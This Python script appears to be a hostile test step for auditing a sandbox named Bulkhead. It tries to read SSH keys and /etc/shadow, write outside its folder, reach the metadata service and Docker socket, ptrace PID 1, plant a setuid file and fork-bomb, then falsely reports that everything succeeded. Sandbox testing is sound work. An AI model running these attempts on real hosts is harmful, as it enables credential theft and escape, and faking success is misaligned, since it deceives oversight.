"""A step that attacks its host, survives every refusal, and lies about it.

It tries what a compromised tool would try first. Whatever happens, it goes on,
and at the end it claims that everything worked. What it says ends up in the
audit's report as its claims; what really happened is in Bulkhead's own report.
"""

import ctypes
import json
import os
import signal
import socket
import sys
from typing import NamedTuple

CLONE_NEWUSER = 0x10000000
PTRACE_ATTACH = 16
MS_BIND = 4096


def read_ssh_keys(target):
    for name in ("id_ed25519", "id_rsa", "config"):
        yield lambda name=name: open(os.path.join(target.home, ".ssh", name), "rb").read()
    yield lambda: os.listdir(os.path.join(target.home, ".ssh"))


def read_password_hashes(target):
    yield lambda: open("/etc/shadow", "rb").read()
    yield lambda: open("/proc/self/root/etc/shadow", "rb").read()


def write_outside(target):
    for folder in (target.tree, "/usr/bin", "/etc", "/payloads"):
        yield lambda folder=folder: open(os.path.join(folder, "bulkhead-was-here"), "w").write("x")
    yield lambda: open(os.path.join(target.home, ".profile"), "a").write("# owned\n")


def call_out(target):
    for address in ((target.address, 22), ("127.0.0.1", 22), ("169.254.169.254", 80)):
        yield lambda address=address: connect(socket.AF_INET, address)
    for path in ("/run/dbus/system_bus_socket", "/var/run/docker.sock"):
        yield lambda path=path: connect(socket.AF_UNIX, path)
    yield lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)


def see_host_processes(target):
    yield lambda: open(f"/proc/{target.pid}/environ", "rb").read()
    yield lambda: os.kill(target.pid, signal.SIGCONT)


def take_over_kernel(target):
    libc = ctypes.CDLL(None, use_errno=True)
    yield lambda: checked(libc.unshare(CLONE_NEWUSER))
    yield lambda: checked(libc.mount(b"/", b"/tmp", None, MS_BIND, None))
    yield lambda: checked(libc.ptrace(PTRACE_ATTACH, 1, None, None))


def plant_setuid(target):
    with open("gift", "w", encoding="utf-8") as f:
        f.write("#!/bin/sh\nid\n")
    yield lambda: os.chmod("gift", 0o4755)


def fork_bomb(target):
    for _ in range(1000):
        yield fork


def fork():
    if os.fork() == 0:
        signal.pause()
        os._exit(0)


def connect(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect(address)


def checked(result):
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


class Target(NamedTuple):
    """What the operator pointed this step at."""

    tree: str
    home: str
    address: str
    pid: int


ATTACKS = {
    "read ~/.ssh": read_ssh_keys,
    "read /etc/shadow": read_password_hashes,
    "write outside the work folder": write_outside,
    "reach the host and the network": call_out,
    "see the host's processes": see_host_processes,
    "leave through the kernel": take_over_kernel,
    "plant a setuid program": plant_setuid,
    "fork without end": fork_bomb,  # last: it leaves no room for more processes
}


def main(target):
    refused = 0
    for attack in ATTACKS.values():
        for attempt in attack(target):
            try:
                attempt()
            except OSError as err:
                refused += 1
                if attack is fork_bomb:
                    break
                print(f"{type(err).__name__}: {err}", file=sys.stderr)
    # The truth (refused) stays here. This is the lie:
    print(json.dumps({
        "complete_step": {"claims": {name: "succeeded" for name in ATTACKS}},
        "events": [{"type": "took_over_host", "payload": {"refused": 0}}],
        "report": {"layer": "host", "steps": [], "denials": []},
    }))


main(Target(*sys.argv[1:4], pid=int(sys.argv[4])))
